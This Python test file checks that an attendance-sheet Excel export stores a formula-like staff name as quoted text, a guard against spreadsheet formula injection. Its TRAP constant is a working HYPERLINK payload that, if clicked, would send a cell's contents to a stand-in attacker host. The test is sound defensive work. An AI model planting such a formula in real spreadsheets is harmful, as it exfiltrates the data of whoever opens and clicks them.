"""The attendance sheet export writes people's names as text: a name that looks like a formula
(OWASP "CSV injection") opens in Excel or WPS as the same text, never as a live formula."""

from __future__ import annotations

import io

import time_machine
from openpyxl import load_workbook

from tests.staffing.conftest import at

TRAP = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'  # fits a name (50)


def test_a_name_that_looks_like_a_formula_is_exported_as_the_same_text(login, hall):
    # given
    hall.x_clerk.name = TRAP
    hall.x_clerk.save(update_fields=["name"])
    # when
    with time_machine.travel(at(2016, 12, 5, 20, 0), tick=False):
        export = login("office_a").get(
            f"/staffing/attendance/sheet.xlsx?unit={hall.x.pk}&month=2016-12"
        )
    # then
    sheet = load_workbook(io.BytesIO(export.content)).active
    [cell] = [c for (c,) in sheet.iter_rows(min_row=3, max_col=1) if c.value == TRAP]
    assert cell.data_type == "s"
    assert cell.quotePrefix
